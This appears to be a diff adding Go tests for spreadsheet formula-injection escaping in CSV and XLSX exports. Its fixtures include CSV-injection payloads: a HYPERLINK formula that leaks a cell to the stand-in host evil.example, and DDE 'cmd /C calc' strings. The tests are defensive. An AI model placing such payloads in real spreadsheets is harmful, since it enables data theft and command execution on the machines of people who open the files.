@@ -2,7 +2,10 @@ package sheet
 
 import (
 	"bytes"
+	"encoding/csv"
 	"reflect"
+	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -125,5 +128,70 @@ func TestWriteHeaders(t *testing.T) {
 	}
 	if err := Write(&buf, "customers", "csv", "en", []kexi.Order{{}}); kexi.ErrorCode(err) != kexi.EINVALID {
 		t.Errorf("orders as customers: %v", err)
+	}
+}
+
+// TestWriteEscapesFormulas: text a spreadsheet would run as a formula is written with an
+// apostrophe in front, in CSV (XLSX holds it as text anyway), numbers stay numbers, and the
+// file reads back to the same records.
+func TestWriteEscapesFormulas(t *testing.T) {
+	const link = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
+	custs := []kexi.Customer{
+		{ExternalID: "C1", Name: link, City: "+cmd|' /C calc'!A0", Occupation: "@SUM(1+1)*cmd|' /C calc'!A0",
+			Phone: "-2+3", Custom: map[string]string{"balance": "-5", "note": "'=already quoted", "plain": "'quoted"}},
+		{ExternalID: "C2", Name: "-", Income: -1200.5, Custom: map[string]string{"balance": "+3.5e2"}},
+	}
+	for _, format := range []string{CSV, XLSX} {
+		var buf bytes.Buffer
+		if err := Write(&buf, kexi.KindCustomers, format, "en", custs); err != nil {
+			t.Fatal(err)
+		}
+		if format == CSV {
+			recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			var cells []string
+			for _, r := range recs {
+				cells = append(cells, r...)
+			}
+			for _, want := range []string{"'" + link, "'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "-5",
+				"''=already quoted", "'quoted", "'-", "-1200.5", "+3.5e2"} {
+				if !slices.Contains(cells, want) {
+					t.Errorf("no cell %q in\n%s", want, buf.String())
+				}
+			}
+			for _, c := range cells {
+				if _, err := strconv.ParseFloat(c, 64); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && err != nil {
+					t.Errorf("cell %q would run as a formula", c)
+				}
+			}
+		}
+		res, err := Read(bytes.NewReader(buf.Bytes()), "customers."+format, Options{CustomFields: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		got := res.Batch.Customers
+		want := []kexi.Customer{custs[0], custs[1]}
+		want[1].Custom = map[string]string{"balance": "350"} // a number custom field in canonical form
+		if !reflect.DeepEqual(got, want) {
+			t.Errorf("%s round trip\n got %+v\nwant %+v", format, got, want)
+		}
+	}
+}
+
+func TestEscapeFormula(t *testing.T) {
+	for in, want := range map[string]string{
+		"": "", "abc": "abc", "=1+1": "'=1+1", "+1": "+1", "+86 138": "'+86 138", "-5": "-5", "-.5": "-.5", "1e5": "1e5",
+		"-1e-5": "-1e-5", "-e5": "'-e5", "-": "'-", "@x": "'@x", "\tx": "'\tx", "\r=x": "'\r=x", "'x": "'x",
+		"'=x": "''=x", "''": "''", "-1,000": "'-1,000", "- 5": "'- 5", "3-4": "3-4",
+	} {
+		got := EscapeFormula(in)
+		if got != want {
+			t.Errorf("EscapeFormula(%q) = %q, want %q", in, got, want)
+		}
+		if back := unescapeFormula(got); back != in {
+			t.Errorf("unescapeFormula(%q) = %q, want %q", got, back, in)
+		}
 	}
 }
